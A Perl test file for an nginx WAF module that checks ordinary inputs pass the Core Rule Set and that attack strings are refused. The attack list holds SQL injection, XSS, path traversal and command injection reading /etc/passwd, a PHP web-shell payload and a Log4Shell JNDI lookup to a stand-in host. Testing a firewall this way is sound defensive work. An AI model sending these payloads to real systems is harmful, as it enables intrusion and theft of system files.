# What people and programs send passes the Core Rule Set at paranoia 1, wherever it stands; what does not is known, with the rule
# and what takes it away (docs/inspection.md). Attacks in the same places are refused.

use strict;
use warnings;
use lib 't/lib';
use JSON::PP;
use Test::More;
use Test::Nginx::Guard;
use Test::Nginx::Guard::Client qw(header_of);

# The values that the Core Rule Set minds, and by which rule, wherever they stand.
my %known = (
    '**Important**: bring the [agenda](https://example.com/agenda) with you' => 933210,    # a link in Markdown looks like a call in PHP
    'Здравствуйте! Когда будет доставлен мой заказ?'                         => 941310,    # bytes of Cyrillic letters look like "<...>" in US-ASCII of 8 bits
);

sub lines_of {
    my ($name) = @_;
    open my $in, '<:raw', "t/ordinary/$name.txt" or die "$name: $!";
    my (undef, @lines) = map { chomp; $_ } <$in>;
    return grep { !/^# (?:Names|Addresses|Prose|Markdown|What programs)/ } @lines;
}

sub encoded { my ($text) = @_; return $text =~ s/([^A-Za-z0-9_.~-])/sprintf '%%%02X', ord $1/ger }

my $upstream = start_upstream("status 200\nbody fine");
my $nginx    = start_nginx(config => <<"EOC");
guard_inspect on;
large_client_header_buffers 4 16k;
location / { add_header X-Rules "\$guard_inspect_rules" always; proxy_pass http://127.0.0.1:@{[ $upstream->port ]}; }
EOC

my $head = "Host: shop.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0\r\n"
    . "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.9,de;q=0.7\r\n"
    . "Cookie: session=6f1d2c3b4a5968778695a4b3c2d1e0f1; theme=dark; _ga=GA1.2.1716.1699\r\n";

sub get { my ($query) = @_; return "GET /search?$query HTTP/1.1\r\n$head\r\n" }

sub post {
    my ($type, $body) = @_;
    return "POST /contact HTTP/1.1\r\n${head}Content-Type: $type\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
}

my $json = JSON::PP->new->utf8->canonical;

sub everywhere {
    my ($value) = @_;
    my $text = $value;
    utf8::decode($text);
    return (
        ['query',  get('text=' . encoded($value) . '&page=2')],
        ['form',   post('application/x-www-form-urlencoded', 'name=Anna&message=' . encoded($value))],
        ['JSON',   post('application/json', $json->encode({ name => 'Anna', notes => [{ text => $text }] }))],
        ['cookie', get('page=2') =~ s/theme=dark/'note=' . encoded($value)/er],
    );
}

# Statuses and rules of requests over one connection.
sub ask {
    my (@requests) = @_;
    my @answers;
    while (my @some = splice @requests, 0, 50) {
        my $result = request_raw($nginx->port, join('', @some), expect => scalar @some);
        push @answers, map { "$_->{code} " . (header_of($_->{fields}, 'X-Rules') // '') } $result->{responses}->@*;
    }
    return @answers;
}

my @values  = lines_of('values');
my @queries = lines_of('queries');
cmp_ok scalar @values, '>', 70, 'values';
my (@names, @requests);
# Passes: that an escape seems to be escaped again weighs 3 of 5.
my %expected = ('50% off (query)' => '200 920220');
for my $value (@values) {
    for my $place (everywhere($value)) {
        push @names,    "$value ($place->[0])";
        push @requests, $place->[1];
        $expected{ $names[-1] } = "403 $known{$value},949110" if $known{$value};
    }
}
push @names, map { "query string $_" } @queries;
push @requests, map { get($_) } @queries;
my @answers = ask(@requests);
is scalar @answers, scalar @requests, 'all are answered';
my %minded;
for my $i (0 .. $#requests) {
    $minded{ $names[$i] } = $answers[$i] if $answers[$i] ne '200 ';
}
is_deeply \%minded, \%expected, 'ordinary requests pass, and match no rule' or diag explain \%minded;

my @attacks = ("1' or '1'='1' -- ", '<script>alert(1)</script>', '../../../../etc/passwd', '; cat /etc/passwd', '<?php system($_GET[0]); ?>', '${jndi:ldap://x.example/a}');
my (@attack_names, @attack_requests);
for my $attack (@attacks) {
    for my $place (everywhere($attack)) {
        push @attack_names,    "$attack ($place->[0])";
        push @attack_requests, $place->[1];
    }
}
my @refused = ask(@attack_requests);
is_deeply [map { "$attack_names[$_]: " . substr $refused[$_] // '', 0, 3 } 0 .. $#attack_names], [map {"$_: 403"} @attack_names], 'attacks in the same places are refused';
is_deeply [log_problems($nginx)], [], 'no problem is logged';

done_testing();
